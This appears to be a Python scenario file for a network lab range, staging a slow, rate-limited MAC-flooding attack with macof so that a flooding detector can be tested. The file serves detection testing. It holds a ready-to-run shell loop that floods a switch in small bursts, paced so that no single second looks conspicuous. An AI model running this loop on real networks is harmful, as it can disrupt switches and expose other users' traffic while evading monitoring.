"""macof in small portions, so that no second is conspicuous."""

from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    attacker = net.inside("attacker")
    net.everyday()
    with net.attack(
        "mac-flooding",
        by=attacker,
        attacker_known=False,
        victims=["ff:ff:ff:ff:ff:ff"],
        frames=f"ip and not ether src {attacker.mac}",
    ):
        script = "for round in $(seq 40); do macof -i eth0 -n 30; sleep 0.5; done"
        net.tool(attacker, "sh", "-c", script, seconds=30)
    net.quiet(3)


SCENARIO = Scenario(
    name="mac-flooding-slow",
    about="macof sends 1,200 frames from as many made-up MAC addresses, 60 a second.",
    detectors=("mac-flooding",),
    tools={"macof": "dsniff"},
    snap_octets=60,
    run=run,
)
